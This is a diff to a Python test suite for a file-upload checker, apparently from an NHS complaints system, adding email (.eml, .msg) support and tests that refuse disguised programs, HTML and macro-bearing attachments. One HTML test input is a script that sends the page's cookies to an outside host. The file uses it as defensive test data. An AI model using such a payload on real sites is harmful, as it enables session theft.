@@ -27,8 +27,11 @@ from PIL import Image
 
 from careprog.uploads import (
     DOC,
+    DOCUMENT_KINDS,
     DOCX,
+    EML,
     JPEG,
+    MSG,
     PDF,
     PNG,
     XLS,
@@ -139,6 +142,39 @@ def rename_ole_entry(
 def ole_entry_index(data: bytes, name: str) -> int:
     entries = olefile.OleFileIO(data).direntries
     return next(i for i, entry in enumerate(entries) if entry and entry.name == name)
+
+
+def make_eml(*, line_ending: str = "\r\n") -> bytes:
+    """An email as Thunderbird or Outlook saves it: header lines, an empty line, the body."""
+    lines = [
+        "Return-Path: <jo.bloggs@example.com>",
+        "From: Jo Bloggs <jo.bloggs@example.com>",
+        "To: PALS <pals@example.nhs.uk>",
+        "Subject: Complaint about my father's care on Ward 7",
+        "Date: Tue, 3 Mar 2026 09:14:00 +0000",
+        "Message-ID: <20260303091400.1234@example.com>",
+        "MIME-Version: 1.0",
+        'Content-Type: text/plain; charset="utf-8"',
+        "Content-Transfer-Encoding: 8bit",
+        "",
+        "Dear PALS,",
+        "My father waited four hours for pain relief.",
+    ]
+    return line_ending.join(lines).encode("utf-8")
+
+
+def make_msg() -> bytes:
+    """An Outlook message's compound file: letter.doc with its directory renamed to the streams
+    Outlook writes (the property stream, and the subject, body and sender as substg streams)."""
+    content = letter_doc()
+    for old, new in [
+        ("WordDocument", "__substg1.0_0037001F"),
+        ("\x01CompObj", "__properties_version1.0"),
+        ("1Table", "__substg1.0_1000001F"),
+        ("\x01Ole", "__substg1.0_0C1F001F"),
+    ]:
+        content = rename_ole_entry(content, old, new)
+    return content
 
 
 def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
@@ -316,6 +352,125 @@ class TestMacros:
         with olefile.OleFileIO(content) as ole:
             assert ole.exists("ObjectPool/_VBA_PROJECT_CUR")
         assert refusal("letter.doc", content).code == "file_has_macros"
+
+
+def not_a_document(name: str, what: str) -> str:
+    return (
+        f"“{name}” is not a PDF, Word, Excel, email, PNG or JPEG file: its content is {what}. "
+        "Files are checked by what is inside them, not by their name."
+    )
+
+
+class TestChosenKinds:
+    """A caller may accept other kinds (a case's documents take emails too); evidence does not."""
+
+    @pytest.mark.parametrize(
+        ("make", "name", "kind"),
+        [
+            (make_eml, "complaint.eml", EML),
+            (functools.partial(make_eml, line_ending="\n"), "complaint.eml", EML),
+            (make_msg, "complaint.msg", MSG),
+            (make_pdf, "letter.pdf", PDF),
+            (letter_doc, "letter.doc", DOC),
+            (make_xlsx, "budget.xlsx", XLSX),
+            (functools.partial(make_image, "JPEG"), "scan.jpg", JPEG),
+        ],
+    )
+    def test_document_kinds_accept_emails_and_everything_evidence_accepts(self, make, name, kind):
+        assert check_upload(upload(name, make()), kinds=DOCUMENT_KINDS) == kind
+
+    def test_an_email_is_recognised_by_its_headers_whatever_it_is_called(self):
+        assert check_upload(upload("scan.pdf", make_eml()), kinds=DOCUMENT_KINDS) == EML
+
+    def test_an_email_saved_with_a_byte_order_mark_is_an_email(self):
+        content = b"\xef\xbb\xbf" + make_eml()
+        assert check_upload(upload("complaint.eml", content), kinds=DOCUMENT_KINDS) == EML
+
+    def test_an_email_with_headers_longer_than_the_part_read_is_still_an_email(self):
+        hops = b"".join(
+            b"Received: from relay%d.example.com by mx.example.nhs.uk\r\n" % n for n in range(400)
+        )
+        assert check_upload(upload("long.eml", hops + make_eml()), kinds=DOCUMENT_KINDS) == EML
+
+    @pytest.mark.parametrize(
+        ("make", "what"), [(make_eml, "an email (.eml)"), (make_msg, "an Outlook email message")]
+    )
+    def test_evidence_still_refuses_emails(self, make, what):
+        error = refusal("complaint.eml", make())
+        assert error.code == "file_type_not_allowed"
+        assert error.messages == [not_allowed("complaint.eml", what)]
+
+    def test_a_windows_program_named_eml_is_refused(self):
+        error = refusal("complaint.eml", windows_program(), kinds=DOCUMENT_KINDS)
+        assert error.messages == [not_a_document("complaint.eml", "a Windows program")]
+
+    @pytest.mark.parametrize(
+        "content",
+        [
+            b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
+            b"<script>document.location='https://example.com/'+document.cookie</script>",
+            b"<html>\nFrom: Jo Bloggs <jo@example.com>\nSubject: hello\n",
+        ],
+        ids=["page", "script", "page-with-headers-inside"],
+    )
+    def test_a_web_page_named_eml_is_refused_as_html(self, content):
+        error = refusal("complaint.eml", content, kinds=DOCUMENT_KINDS)
+        assert error.messages == [not_a_document("complaint.eml", "a web page (HTML)")]
+
+    @pytest.mark.parametrize(
+        "content",
+        [
+            b"Note: call the family back\nThey are happy with the response.\n",
+            b"Subject: Ward 7\nThis line is not a header\nFrom: someone\n",
+            b"#!/bin/sh\nFrom: x\nSubject: y\n",
+        ],
+        ids=["one-header", "headers-broken-by-text", "script-first"],
+    )
+    def test_text_that_only_looks_a_little_like_an_email_is_plain_text(self, content):
+        error = refusal("notes.eml", content, kinds=DOCUMENT_KINDS)
+        assert error.messages == [not_a_document("notes.eml", "plain text")]
+
+    def test_an_outlook_file_without_its_property_stream_is_not_a_whole_message(self):
+        partial = rename_ole_entry(letter_doc(), "WordDocument", "__substg1.0_0037001F")
+        error = refusal("complaint.msg", partial, kinds=DOCUMENT_KINDS)
+        assert error.messages == [
+            not_a_document("complaint.msg", "an Outlook file that is not a whole email message")
+        ]
+
+    def test_an_outlook_message_with_an_attachment_holding_macros_is_refused(self):
+        # "1Table" hangs to the right of "\x01Ole": move it under "\x01Ole", made into an
+        # attachment storage, as an embedded Office file's macro storage.
+        message = make_msg()
+        content = rename_ole_entry(
+            message,
+            "__substg1.0_0C1F001F",
+            "__attach_version1.0_#00000000",
+            as_storage=True,
+            right=NO_ENTRY,
+            child=ole_entry_index(message, "__substg1.0_1000001F"),
+        )
+        content = rename_ole_entry(content, "__substg1.0_1000001F", "Macros", as_storage=True)
+        error = refusal("complaint.msg", content, kinds=DOCUMENT_KINDS)
+        assert error.code == "file_has_macros"
+        assert error.messages == [
+            "“complaint.msg” has an attachment that contains macros, which are not accepted: "
+            "save the attachment without macros and upload it on its own."
+        ]
+
+    def test_the_message_lists_only_the_kinds_the_caller_accepts(self):
+        error = refusal("photo.png", make_image("GIF"), kinds=(PNG, JPEG))
+        assert error.messages[0].startswith("“photo.png” is not a PNG or JPEG file:")
+
+    def test_a_field_for_documents_offers_emails_in_the_file_picker_and_accepts_them(self):
+        class DocumentForm(forms.Form):
+            file = CheckedFileField(kinds=DOCUMENT_KINDS, max_bytes=20 * MB)
+
+        assert 'accept=".pdf,.doc,.docx,.xls,.xlsx,.eml,.msg,.png,.jpg,.jpeg"' in str(
+            DocumentForm()["file"]
+        )
+        form = DocumentForm(data={}, files={"file": upload("complaint.msg", make_msg())})
+        assert form.is_valid(), form.errors
+        assert form.cleaned_data["file"].checked_kind == MSG
 
 
 class ClaimedSize:
